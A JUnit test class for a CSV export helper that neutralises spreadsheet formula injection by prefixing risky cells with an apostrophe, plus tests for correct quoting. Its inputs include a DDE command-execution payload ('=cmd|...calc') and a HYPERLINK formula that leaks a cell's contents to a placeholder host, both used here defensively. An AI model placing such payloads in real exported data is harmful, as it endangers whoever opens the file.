package org.earshot.proxy.archive.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvLineTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                " =1",
                "\u00a0@x",
                "\uff1d1",
                "\uff0b1",
                "\uff0d1",
                "\uff20x",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://example.org?x=\"&A1)"
            })
    void whatASpreadsheetWouldObeyGetsAnApostrophe(String cell) {
        assertThat(CsvLine.neutral(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "a=1", "1-1", "'=1", "sip:a@b", "2026-11-26", "ü"})
    void allElseStaysAsItIs(String cell) {
        assertThat(CsvLine.neutral(cell)).isEqualTo(cell);
    }

    @Test
    void noCellEndsEarly() {
        assertThat(CsvLine.of(List.of("a\"b", "x,\r\ny", "\",\"=1")))
                .isEqualTo("\"a\"\"b\",\"x,\r\ny\",\"\"\",\"\"=1\"\r\n");
    }
}
